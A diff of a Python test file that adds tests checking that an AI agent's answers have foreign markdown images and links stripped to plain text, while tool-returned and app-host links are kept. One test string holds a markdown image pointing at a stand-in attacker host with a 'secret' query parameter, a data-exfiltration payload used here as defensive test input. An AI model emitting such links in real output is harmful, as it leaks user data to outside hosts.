@@ -348,6 +348,25 @@ def test_what_was_said_in_an_earlier_turn_is_not_said_in_this_one() -> None:
     assert turn.nation.done == []
 
 
+EVIL = "![Ann](https://evil.test/?d=secret) and [more](https://evil.test)"
+
+
+def test_foreign_images_and_links_of_an_answer_are_text_wherever_it_is_kept() -> None:
+    turn = table(says(f"Look: {EVIL}"))
+
+    answer = turn.answer()
+
+    assert answer.text == text_of(turn.events) == "Look: Ann and more"
+    assert "evil.test" not in str([answer.messages, turn.steps.steps, turn.events])
+
+
+def test_links_that_tools_returned_and_those_to_the_app_stay() -> None:
+    said = "[23](https://demo.nationbuilder.com/admin/signups) of [all](https://app.nat.test/x)"
+    turn = table(calls(use("count_people")), says(said))
+
+    assert turn.answer(hosts=frozenset({"app.nat.test"})).text == said
+
+
 def test_rights_are_read_again_before_each_write() -> None:
     seen = iter([Rights(Role.OWNER), Rights(Role.OWNER), Rights(Role.VIEWER)])
     turn = table(calls(use("update_person", "t1"), use("update_person", "t2")), says("Only one."))
